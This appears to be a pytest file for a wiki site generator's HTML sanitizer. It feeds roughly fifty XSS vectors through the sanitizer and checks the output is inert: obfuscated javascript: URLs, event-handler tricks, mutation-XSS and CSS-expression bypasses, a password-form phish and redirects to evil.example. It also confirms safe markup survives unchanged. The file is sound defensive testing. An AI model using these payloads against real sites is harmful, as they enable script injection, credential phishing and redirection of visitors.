"""sanitize.py: raw HTML is cut to what a note may use, by default; kbwiki's own markup and safe HTML stay byte for byte."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from generator import cli
from generator.parse.markdown import url_is_unsafe
from generator.parse import sanitize as sanitize_module
from generator.parse.sanitize import TAGS, css_is_unsafe, sanitize, tag_names
from tests.helpers import build, elements, output

RUN = "window.__xss=(window.__xss||0)+1"  # what each payload would run; tests/browser checks it never does

# (name, snippet, what the warning says): each is a page of its own, the snippet on line 5.
HOSTILE = [
    ("script", f"<script>{RUN}</script>", "<script> removed"),
    ("script-upper-case", f"<SCRIPT>{RUN}</SCRIPT>", "<script> removed"),
    ("script-src", '<script src="https://evil.example/x.js"></script>', "<script> removed"),
    ("script-self-closed", f"<script/>{RUN}</script>", "<script> removed"),
    ("onerror", f'<img src="x.png" onerror="{RUN}">', "onerror= removed from <img>"),
    ("onclick-mixed-case", f'<div OnClIcK="{RUN}">click</div>', "onclick= removed from <div>"),
    ("onload-spaced", f'<img src="x.png" onload = "{RUN}">', "onload= removed from <img>"),
    ("onmouseover-across-lines", f'<b\nonmouseover\n=\n"{RUN}">hover</b>', "onmouseover= removed from <b>"),
    ("onerror-after-slash", f'<p><img/src="x.png"/onerror="{RUN}"></p>', "onerror= removed from <img>"),
    ("ontoggle", f'<details open ontoggle="{RUN}"><summary>s</summary>t</details>', "ontoggle= removed from <details>"),
    ("onfocus-autofocus", f'<a href="#x" autofocus onfocus="{RUN}">f</a>', "onfocus= removed from <a>"),
    ("javascript", f'<a href="javascript:{RUN}">j</a>', "javascript: URL removed from <a href>"),
    ("javascript-entity", f'<a href="&#106;avascript:{RUN}">j</a>', "javascript: URL removed from <a href>"),
    ("javascript-padded-hex-entity", f'<a href="&#x0000006A;avascript:{RUN}">j</a>', "javascript: URL removed"),
    ("javascript-tab-entity", f'<a href="java&#x09;script:{RUN}">j</a>', "javascript: URL removed"),
    ("javascript-spaces-and-case", f'<a href="  JaVaScRiPt:{RUN}">j</a>', "javascript: URL removed"),
    ("javascript-img", f'<img src="javascript:{RUN}">', "javascript: URL removed from <img src>"),
    ("vbscript", '<a href="vbscript:msgbox(1)">v</a>', "vbscript: URL removed from <a href>"),
    ("data-link", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>', "data: URL removed"),
    ("data-iframe", '<iframe src="data:text/html,&lt;script&gt;parent.__xss=1&lt;/script&gt;"></iframe>',
     "<iframe src> removed"),
    ("javascript-iframe", f'<iframe src="javascript:{RUN}"></iframe>', "<iframe src> removed"),
    ("srcdoc", '<iframe srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;"></iframe>', "srcdoc= removed from <iframe>"),
    ("iframe-camera", '<iframe src="https://example.com/" allow="camera; microphone"></iframe>', "allow= removed"),
    ("svg-script", f"<svg><script>{RUN}</script></svg>", "<svg> removed"),
    ("svg-onload", f'<svg onload="{RUN}"></svg>', "<svg> removed"),
    ("math-style-mutation", f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">', "<math> removed"),
    ("noscript-mutation", f'<noscript><p title="</noscript><img src=x onerror=\'{RUN}\'>"></noscript>',
     "<noscript> removed"),
    ("template", f"<template><script>{RUN}</script></template>", "<template> removed"),
    ("base", '<base href="https://evil.example/">', "<base> removed"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', "<meta> removed"),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">', "<link> removed"),
    ("object", '<object data="https://evil.example/x.swf"></object>', "<object> removed"),
    ("embed", '<embed src="https://evil.example/x.swf">', "<embed> removed"),
    ("form", '<form action="https://evil.example/"><input name="password"><button>Log in</button></form>',
     "<form> removed"),
    ("body-onload", f'<body onload="{RUN}">', "<body> removed"),
    ("css-url-javascript", f'<b style="background:url(javascript:{RUN})">s</b>', "style= removed from <b>"),
    ("css-expression", '<p style="width: expression(alert(1))">e</p>', "style= removed from <p>"),
    ("css-escaped-expression", '<p style="width: exp\\72 ession(alert(1))">e</p>', "style= removed from <p>"),
    ("css-import", "<style>@import url(https://evil.example/x.css);</style>", "<style> removed"),
    ("css-expression-element", "<style>p { width: ex/**/pression(alert(1)) }</style>", "<style> removed"),
    ("reserved-id", '<h2 id="backlinks">Clobber</h2>', 'id="backlinks" removed from <h2>'),
    ("script-global-id", '<div id="KBWIKI_SEARCH">x</div>', 'id="KBWIKI_SEARCH" removed from <div>'),
    ("kelvin-sign-tag", f'<ma\u212ark onclick="{RUN}">k</ma\u212ark>', "removed"),
    ("nested-script", f"<scr<script>ipt>{RUN}</script>", "<script> removed"),
    ("comment-break-out", f'<!--><img src=x onerror="{RUN}">-->', "rewritten"),
    ("unclosed-quote", f'<div>\n<a title="x onmouseover={RUN}\n</div>', "rewritten"),
    ("unclosed-element", '<div class="box"><a href="https://evil.example/">everything after is a link', "rewritten"),
    ("stray-closers", "</div></article></main>after", "rewritten"),
]
PAGE = "# {}\n\nSome text.\n\n{}\n\nAfter.\n"
DANGEROUS_TAGS = {"script", "svg", "math", "noscript", "template", "base", "meta", "link", "object", "embed", "form",
                  "input", "button", "body"}


VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}


class Nesting(HTMLParser):
    """Elements left open or closed out of order (an end tag nothing opened is skipped, as browsers skip it)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag, attrs):
        pass

    def handle_endtag(self, tag):
        if tag in self.stack:
            if self.stack[-1] != tag:
                self.problems.append(f"</{tag}> closes <{self.stack[-1]}>")
            del self.stack[len(self.stack) - 1 - self.stack[::-1].index(tag):]


def nesting_problems(html: str) -> list[str]:
    parser = Nesting()
    parser.feed(html)
    parser.close()
    return parser.problems + [f"<{tag}> left open" for tag in parser.stack]


def body_of(html: str) -> str:
    """The page body only (the theme has its own scripts)."""
    return html.split('<div class="page-body">', 1)[1].split("\n  </div>\n</article>", 1)[0]


def inert_problems(html: str) -> list:
    """What in `html` could run script or leave the page: an empty list when nothing can."""
    found = []
    for tag, attrs in elements(html):
        found += [(tag, name) for name in attrs if name.startswith("on") or name == "srcdoc"]
        if tag in DANGEROUS_TAGS or tag not in TAGS:
            found.append(tag)
        for name in ("href", "src", "cite"):
            if attrs.get(name) is not None and url_is_unsafe(attrs[name], image=tag == "img" and name == "src"):
                found.append((tag, name, attrs[name]))
        if css_is_unsafe(attrs.get("style") or ""):
            found.append((tag, "style"))
        if tag == "iframe" and not (attrs.get("sandbox") is not None and attrs.get("referrerpolicy") == "no-referrer"
                                    and (attrs.get("src") or "https:").startswith(("https:", "http:"))):
            found.append((tag, attrs))
    return found


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    content = tmp_path_factory.mktemp("hostile") / "content"
    content.mkdir()
    for name, snippet, _ in HOSTILE:
        (content / f"{name}.md").write_text(PAGE.format(name, snippet), encoding="utf-8")
    return build(content)


@pytest.mark.parametrize("name, snippet, said", HOSTILE, ids=[case[0] for case in HOSTILE])
def test_hostile_html_is_removed_and_reported(hostile_site, name, snippet, said):
    page = output(hostile_site, f"{name}.html")
    body = body_of(page)
    assert inert_problems(body) == [], body
    assert nesting_problems(page) == []  # the page around the body is whole
    assert page.rstrip().endswith('<script src="assets/kbwiki.js" data-root="" defer></script>\n</body>\n</html>')
    warnings = [d for d in hostile_site.diagnostics if d.src_path == f"{name}.md" and d.code == "unsafe-html"]
    assert warnings and all(d.level == "warning" for d in warnings)
    assert any(said in d.message for d in warnings), [d.message for d in warnings]
    reported = next(d for d in warnings if said in d.message)
    assert reported.line == (0 if said == "rewritten" else 5)


def test_without_sanitize_every_hostile_snippet_is_kept(hostile_site, make_vault):
    """The control: each snippet does reach the page when sanitize is off (so the test above could fail)."""
    content = make_vault({f"{name}.md": PAGE.format(name, snippet) for name, snippet, _ in HOSTILE})
    raw = build(content, sanitize=False)
    for name, _, _ in HOSTILE:
        assert body_of(output(raw, f"{name}.html")) != body_of(output(hostile_site, f"{name}.html")), name
    assert sum(bool(inert_problems(body_of(output(raw, f"{name}.html")))) for name, _, _ in HOSTILE) >= 35
    assert not [d for d in raw.diagnostics if d.code == "unsafe-html"]


def test_the_issues_example(make_vault):
    text = ('# Notes\n\nText <script>alert(9)</script> <img src=x onerror="alert(10)"> '
            '<iframe src="https://evil.example"></iframe> <div onclick="alert(11)">\n\nA <a href="javascript:alert(5)">raw link</a>.\n')
    site = build(make_vault({"notes.md": text}))
    body = body_of(output(site, "notes.html"))
    assert inert_problems(body) == []
    assert ('<p>Text  <img src="x"> <iframe src="https://evil.example" sandbox="allow-popups allow-presentation '
            'allow-same-origin allow-scripts" referrerpolicy="no-referrer"></iframe> </p><div>') in body
    assert "<p>A <a>raw link</a>.</p></div>" in body  # the <div> left open is closed where the body ends
    shown = sorted((d.line, d.message.split(":")[0]) for d in site.diagnostics if d.code == "unsafe-html")
    assert shown == [(0, "HTML rewritten whole"), (3, "<script> removed"), (3, "onclick= removed from <div>"),
                     (3, "onerror= removed from <img>"), (5, "javascript")]


def test_each_kind_is_reported_once_per_page(make_vault):
    text = "# A\n\n<b onclick=x>1</b>\n\n<i onclick=y>2</i> <script>a</script>\n\n<script>b</script> <u onmouseover=z>3</u>\n"
    site = build(make_vault({"a.md": text, "b.md": text}))
    for page in ("a.md", "b.md"):
        found = [(d.line, d.message) for d in site.diagnostics if d.src_path == page and d.code == "unsafe-html"]
        assert found == [(3, "onclick= removed from <b>"), (5, "<script> removed"), (7, "onmouseover= removed from <u>")]
    assert "<b>1</b>" in output(site, "a.html") and "<i>2</i>" in output(site, "a.html")


# Raw HTML a note may use, and what the other stages write (code highlighting, math, diagrams): unchanged.
KEPT = [
    '<span style="font-family: cursive">your text</span>',
    "<u>underlined</u> <s>struck</s> <kbd>Ctrl</kbd>+<kbd>K</kbd> H<sub>2</sub>O x<sup>2</sup> <mark>marked</mark>",
    "<details open><summary>More</summary>Hidden text.</details>",
    '<table>\n<tr>\n<td colspan="2" style="text-align: right;">Content<p/>here</td>\n</tr>\n</table>',
    "non\u00a0breaking &copy; &amp; &quot;quoted&quot; &#8617;",
    "<!-- an HTML comment, hidden as in Obsidian -->",
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot" width="10"> <img src="files/a b.png" loading="lazy">',
    '<a href="https://example.com/?a=1&b=2" title="t" target="_blank" rel="noopener">out</a> <a href="mailto:a@b.c">m</a>'
    ' <a href="obsidian://open?vault=V&file=N">o</a> <a href="../other.html#part">rel</a>',
    '<iframe src="https://www.youtube.com/embed/x" width="560" height="315" allowfullscreen allow="autoplay; fullscreen" '
    'sandbox="allow-scripts" referrerpolicy="no-referrer"></iframe>',
    "<style>.note { color: #c00; background: url(https://example.com/bg.png) }</style>",
    '<font color="red">old</font> <center>c</center> <div data-anything="x" aria-label="y" class="a b">d</div>',
    '<div class="highlight"><pre><span></span><span class="k">def</span> <span class="nf">f</span>():</pre></div>',
    '<span class="math">\\(e^{i\\pi} + 1 = 0\\)</span> <div class="math">\\[x &lt; y\\]</div>',
    '<pre class="mermaid">graph TD\nA --&gt; B</pre>',
    '<p id="^block-id">A block</p> <h2 id="part-one">Part one</h2>',
    "</span> closes nothing; browsers skip it",
]


@pytest.mark.parametrize("html", KEPT)
def test_safe_html_is_kept_byte_for_byte(html):
    kept = sanitize(html)
    assert kept.html == html and kept.removed == ()


@pytest.mark.parametrize("html, expected", [
    ('<div class="a" onclick="x" title="t">d</div>', '<div class="a" title="t">d</div>'),
    ('<a href="https://x.example/?a=1&b=2" onclick="y">l</a>', '<a href="https://x.example/?a=1&b=2">l</a>'),
    ('<img onerror="y"src="x.png">', '<img src="x.png">'),
    ('<iframe src="https://x.example/v?a=1&b=2" name="n"></iframe>',
     '<iframe src="https://x.example/v?a=1&b=2" sandbox="allow-popups allow-presentation allow-same-origin '
     'allow-scripts" referrerpolicy="no-referrer"></iframe>'),
    ('<iframe src="https://x.example/" sandbox="allow-top-navigation" referrerpolicy="unsafe-url"></iframe>',
     '<iframe src="https://x.example/" sandbox="allow-popups allow-presentation allow-same-origin allow-scripts" '
     'referrerpolicy="no-referrer"></iframe>'),
    ('<p title="<b>" onclick="x">t</p>', '<p title="&lt;b&gt;">t</p>'),
    ("a <script>x()</script> b <x-evil>c</x-evil>", "a  b c"),
    ("<p>a</script> b</p> <script/>c</script>d", "<p>a b</p> d"),  # a stray end tag goes alone; <script/> opens one
])
def test_only_what_is_at_fault_goes(html, expected):
    assert sanitize(html).html == expected


def test_unbalanced_html_is_rewritten_and_closed():
    cleaned = sanitize('<div class="box">text <a title="x')
    assert cleaned.html == '<div class="box">text </div>'
    assert [r.kind for r in cleaned.removed] == ["rewritten"]


@pytest.mark.parametrize("css, unsafe", [
    ("color: red; text-align: left;", False),
    ("background: url(https://example.com/a.png)", False),
    ("background: url(data:image/png;base64,AA)", False),
    ("width: expression(alert(1))", True),
    ("width: EXPRESSION (alert(1))", True),
    ("width: exp\\72 ession(alert(1))", True),
    ("width: ex/**/pression(alert(1))", True),
    ("background: url( 'java\\73 cript:alert(1)' )", True),
    ("background: url(JavaScript:alert(1))", True),
    ('content: "/*"; background: url(javascript:x); content: "*/"', True),
    ("@import 'https://evil.example/x.css'", True),
    ("@\\69mport url(x.css)", True),
    ("behavior: url(x.htc)", True),
    ("-moz-binding: url(x.xml#xss)", True),
    ("x: \\FFFFFF", False),
])
def test_css_that_can_run_script_is_seen_however_written(css, unsafe):
    assert css_is_unsafe(css) is unsafe


def test_tag_names_fold_ascii_only_as_browsers_do():
    assert tag_names("<B>x</b> <Ma\u212ark> <scr\x00ipt>") == {"b", "ma\u212ark", "scr\x00ipt"}
    assert not tag_names("<ma\u212ark>") <= TAGS


OURS = """# Ours

See [[Other#Part two|the other page]], [[Nowhere]], [a file](other.md) and #tag.

## Part one

| Left | Right |
|:-----|------:|
| a    | b     |

Claim[^1]. `inline <code>` ==highlight== and a block ^blockid

> [!tip]- A callout
> With **text**.

![[other#Part two]] ![[picture.png|300]]

```python
if a < b and c > d: pass
```

[^1]: The footnote.
"""
OTHER = "# Other\n\n## Part two\n\nText.\n"


def test_our_markup_is_byte_identical_with_and_without_sanitize(make_vault):
    content = make_vault({"ours.md": OURS, "other.md": OTHER, "picture.png": b"\x89PNG\r\n\x1a\n"})
    clean, raw = build(content), build(content, sanitize=False)
    pages = [o.out_path for o in raw.outputs if o.out_path.endswith(".html")]
    assert "ours.html" in pages
    for out_path in pages:
        assert output(clean, out_path) == output(raw, out_path), out_path
    assert not [d for d in clean.diagnostics if d.code == "unsafe-html"]
    ours = output(clean, "ours.html")
    for expected in ('<a class="wikilink" href="other.html#part-two">the other page</a>', 'class="wikilink missing"',
                     '<th style="text-align: left;">Left</th>', '<sup id="fnref:1">', 'data-callout="tip"',
                     '<mark>highlight</mark>', 'id="^blockid"', 'class="embed-file"'):
        assert expected in ours, expected


def test_sanitize_false_in_kbwiki_yaml_keeps_raw_html(tmp_path, make_vault):
    content = make_vault({"notes.md": "# Notes\n\n<b onclick=\"x()\">b</b><script>alert(1)</script>\n"})
    out = tmp_path / "site"
    assert cli.main(["build", "--content", str(content), "--out", str(out)]) == 0
    assert "<script" not in body_of((out / "notes.html").read_text()) and "onclick" not in (out / "notes.html").read_text()
    (tmp_path / "kbwiki.yaml").write_text("sanitize: false\n")
    assert cli.main(["build", "--content", str(content), "--out", str(out), "--config", str(tmp_path / "kbwiki.yaml")]) == 0
    assert '<b onclick="x()">b</b><script>alert(1)</script>' in (out / "notes.html").read_text()


@pytest.mark.parametrize("tag", ["a", "img", "iframe", "div", "blockquote"])
@pytest.mark.parametrize("attr", ["class", "href", "src", "cite", "id", "style", "sandbox"])
@pytest.mark.parametrize("value", ["x", "kbref:w:A#", "#top", "https://example.com/", "http://a", "javascript:x()",
                                   "https://a\x00", "content", "expression(x)", "allow-scripts", ""])
def test_the_attribute_filter_keeps_what_keeps_keeps(tag, attr, value):
    assert sanitize_module._filter(tag, attr, value) == (value if sanitize_module._keeps(tag, attr, value) else None)


class _Counting:
    """An nh3 cleaner that counts its passes."""

    def __init__(self, cleaner):
        self.cleaner, self.calls = cleaner, 0

    def clean(self, html: str) -> str:
        self.calls += 1
        return self.cleaner.clean(html)


def test_a_body_nh3_writes_alike_but_for_quotes_in_text_is_judged_in_one_pass(monkeypatch):
    """Pygments writes `&quot;` where nh3 writes `"`: such a body (a quarter of pages with code) is nh3's own
    writing and is kept as it is after one nh3 pass, not three; a quote beside something nh3 takes out is not."""
    faithful = _Counting(sanitize_module._FAITHFUL)
    monkeypatch.setattr(sanitize_module, "_FAITHFUL", faithful)
    code = '<pre class="highlight"><code><span class="s2">&quot;quoted&quot;</span> <span class="n">x</span></code></pre>'
    assert sanitize(code).html == code and not sanitize(code).removed
    assert faithful.calls == 0
    hostile = '<p>&quot;<b onclick="alert(1)">bold</b></p>'
    result = sanitize(hostile)
    assert result.html == "<p>&quot;<b>bold</b></p>" and [r.kind for r in result.removed] == ["attribute onclick"]
    assert faithful.calls > 0
    quoted_attribute = '<p><abbr title="say &quot;hi&quot;">&quot;x&quot;</abbr></p>'  # nh3 keeps &quot; in attributes
    assert sanitize(quoted_attribute).html == quoted_attribute
